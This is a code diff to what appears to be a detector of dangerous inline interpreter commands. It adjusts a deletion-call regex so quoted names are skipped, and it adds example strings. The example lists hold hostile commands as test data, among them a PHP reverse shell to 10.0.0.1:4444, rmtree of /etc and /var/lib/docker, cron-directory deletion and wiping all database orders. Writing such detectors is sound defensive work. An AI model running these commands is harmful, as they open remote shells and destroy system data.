@@ -167,8 +167,10 @@ export const SHELL_ON_SOCKET =
 /** The call and sign patterns ../inline.ts matches, built from the tables above. */
 export const NAME_END = String.raw`(?:(?<=\w)(?!\w)|(?<!\w))`;
 // A name ends where no word character follows (`rm` is not `rmtree`); `unlink glob "/etc/*"` deletes the glob.
+// A name in quotes is a string, not a call (`use File::Path "rmtree"; rmtree("/etc")`: the quote after it would
+// otherwise open a string that swallows the real call).
 export const DELETE_CALLS = new RegExp(
-  String.raw`\b(?:${DELETE_CALL_NAMES})${NAME_END}\s*\(?\s*(?:glob\s*\(?\s*)?(?:${STR})?`,
+  String.raw`(?<!['"])\b(?:${DELETE_CALL_NAMES})${NAME_END}\s*\(?\s*(?:glob\s*\(?\s*)?(?:${STR})?`,
   "g",
 );
 export const WRITE_CALLS = new RegExp(String.raw`\b(?:${WRITE_CALL_NAMES})\s*\(?\s*(?:glob\s*\(?\s*)?(?:${STR})?`, "g");
@@ -314,6 +316,7 @@ export const INLINE_EXAMPLES = {
     'php -r \'$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
     "python manage.py shell -c 'from shop.models import Order; Order.objects.all().delete()'",
     "perl -e 'use File::Path; rmtree(\"/var/lib/docker\")'",
+    "perl -e 'use File::Path \"rmtree\"; rmtree(\"/etc\")'",
     "perl -e 'unlink glob \"/etc/cron.d/*\"'",
     "tclsh <<< 'exec rm -rf /var/spool/cron'",
     "julia -e 'rm(\"/opt/models\"; recursive=true)'",
@@ -390,6 +393,7 @@ export const INLINE_EXAMPLES = {
     "python3 -c \"import os; print(os.environ.get('HOME'))\"",
     "ruby -e 'puts Dir.home'",
     "perl -e 'use File::Path; rmtree(\"build\")'",
+    "perl -e 'use File::Path \"rmtree\"; rmtree(\"build\")'",
     "tclsh <<< 'puts [exec ls -la]'",
     "julia -e 'println(1 + 1)'",
     'php -r \'array_map("unlink", glob("cache/*.tmp"));\'',
